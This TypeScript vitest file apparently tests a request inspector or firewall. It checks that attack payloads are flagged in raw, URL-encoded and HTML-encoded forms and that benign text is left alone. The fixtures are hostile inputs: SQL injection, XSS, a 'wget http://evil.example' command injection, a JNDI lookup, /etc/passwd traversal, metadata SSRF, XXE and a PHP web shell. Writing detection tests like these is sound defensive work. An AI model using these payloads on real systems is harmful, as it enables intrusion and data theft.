import { describe, expect, it } from "vitest";
import { createInspector } from "../../src/index.ts";

const inspector = await createInspector();

async function categories(value: object): Promise<string[]> {
  const { findings } = await inspector.inspect({ contentType: "application/json", body: JSON.stringify(value) });
  return [...new Set(findings.filter(({ action }) => action !== "report").map(({ category }) => category))];
}

describe("the own pack finds", () => {
  it.each([
    ["sqli", "x' OR '1'='1' -- "],
    ["sqli", "1 UNION ALL SELECT login, pass FROM staff"],
    ["sqli", "7; DROP TABLE invoices"],
    ["xss", "<img src=x onerror=alert(1)>"],
    ["xss", "<a href='java\tscript:steal()'>x</a>"],
    ["rce", "a.png; wget http://evil.example/x"],
    ["lfi", "../../../../etc/passwd"],
    ["java", "${${lower:j}ndi:ldap://evil.example/a}"],
    ["ssrf", "http://169.254.169.254/latest/meta-data/"],
    ["ssrf", "http://0x7f000001/"],
    ["ssti", "{{7*'7'}}"],
    ["nosql", "'; return this.password == 'x"],
    ["crlf", "x\r\nSet-Cookie: admin=1"],
    ["xxe", '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/hostname">]>'],
    ["deserialization", 'O:8:"Customer":1:{s:4:"name";s:1:"x";}'],
    ["prototype-pollution", "__proto__[admin]=1"],
    ["ldap", "*)(uid=*"],
    ["php", "<?php system($_GET['c']); ?>"],
  ])("%s in %j, and in its URL- and HTML-encoded forms", async (category, payload) => {
    expect(await categories({ note: payload })).toContain(category);
    expect(await categories({ note: encodeURIComponent(payload) })).toContain(category);
    expect(
      await categories({ note: payload.replaceAll(/[^a-z]/gi, (c) => `&#x${c.charCodeAt(0).toString(16)};`) }),
    ).toContain(category);
  });

  it("operators and prototypes as keys", async () => {
    expect(await categories({ filter: { $ne: null } })).toEqual(["nosql"]);
    const { verdict, body } = await inspector.inspect({
      contentType: "application/json",
      body: '{"a":1,"__proto__":{"x":1},"b":2}',
    });
    expect([verdict, Buffer.from(body).toString()]).toEqual(["sanitized", '{"a":1,"b":2}']);
  });
});

it.each([
  "Please select a new address from the list, and update it where needed or drop us a note.",
  "It's 5 o'clock and Ana's order isn't here; she said 'yes' and 'no'.",
  '<p>See <a href="https://example.com"><b>the docs</b></a></p>',
  "Dear {{name}}, your total is ${total}",
  "https://api.example.com/v1/users?limit=10&cursor=abc&sort=-created",
  "Use `foo` or `bar` to group by 3 columns",
  "10.0.0.1",
  "C++ & C# > Java?",
])("leaves %j alone", async (note) => {
  expect(await categories({ note })).toEqual([]);
});
